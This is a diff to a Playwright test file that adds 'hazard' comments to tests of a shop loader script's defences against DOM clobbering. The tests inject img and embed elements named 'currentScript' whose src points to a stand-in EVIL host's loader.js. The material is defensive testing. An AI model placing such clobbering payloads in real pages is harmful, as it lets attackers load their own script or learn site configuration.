@@ -15,6 +15,7 @@ async function watchEvil(page: Page): Promise<string[]> {
   return asked
 }
 
+// hazard 65
 for (const [what, clobber] of [
   ['a picture', `<img name="currentScript" src="${EVIL}/loader.js?client-id=evil" alt="">`],
   ['a plug-in', `<embed name="currentScript" type="image/svg+xml" src="${EVIL}/loader.js?client-id=evil">`],
@@ -32,6 +33,7 @@ const NAMES = [
   ...['body', 'head', 'defaultView'],
 ]
 
+// hazard 65
 test('elements that are called like what the document can do keep nothing from being drawn, and from being taken back', async ({
   page,
   shop,
@@ -52,6 +54,7 @@ test('elements that are called like what the document can do keep nothing from b
   await expect(page.getByRole('link', { name: 'All we have' })).toBeVisible()
 })
 
+// hazard 65
 test('links that call themselves the configuration do not say where the shop is', async ({ page, shop }) => {
   const asked = await watchEvil(page)
   await page.route('https://www.wixapis.com/**', async (route) => {
@@ -72,6 +75,7 @@ test('links that call themselves the configuration do not say where the shop is'
   ])
 })
 
+// hazard 78
 test('nor does the address of the page, where the loader has another name', async ({ page, shop }) => {
   const asked = await watchEvil(page)
   await page.route('**/t/shop.js', async (route) =>
